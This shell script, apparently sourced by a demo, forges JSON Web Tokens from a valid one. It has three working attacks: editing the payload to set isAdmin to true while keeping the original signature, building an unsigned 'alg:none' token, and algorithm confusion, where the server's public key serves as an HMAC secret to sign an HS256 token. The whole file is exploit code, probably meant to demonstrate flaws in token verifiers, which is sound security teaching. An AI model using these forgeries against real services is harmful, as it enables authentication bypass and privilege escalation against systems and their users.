# Makes forged tokens from a valid one, with openssl.  Sourced by demo/run.
# shellcheck shell=sh

b64u() {
    base64 | tr -d '=\n' | tr '+/' '-_'
}

unb64u() {
    text=$(tr -- '-_' '+/')
    while [ $((${#text} % 4)) != 0 ]; do
        text=$text=
    done
    printf '%s' "$text" | base64 -d
}

payload_of() {
    payload=${1#*.}
    printf '%s' "${payload%.*}"
}

# sets isAdmin to true in the payload, and keeps the signature
forge_tampered() {
    payload=$(payload_of "$1" | unb64u \
        | sed 's/"isAdmin":false/"isAdmin":true/' | b64u)

    printf '%s.%s.%s' "${1%%.*}" "$payload" "${1##*.}"
}

# an unsecured JWT (RFC 7519 section 6)
forge_none() {
    printf '%s.%s.' "$(printf '{"alg":"none","typ":"JWT"}' | b64u)" \
        "$(payload_of "$1")"
}

# Algorithm confusion: a verifier that lets the token choose the algorithm uses its
# public key, which everybody knows, as the secret of an HMAC.
forge_hs256() {
    text=$(printf '{"alg":"HS256","typ":"JWT"}' | b64u).$(payload_of "$1")
    key=$(od -An -v -tx1 "$2" | tr -d ' \n')

    printf '%s.%s' "$text" "$(printf '%s' "$text" \
        | openssl dgst -sha256 -mac HMAC -macopt "hexkey:$key" -binary | b64u)"
}
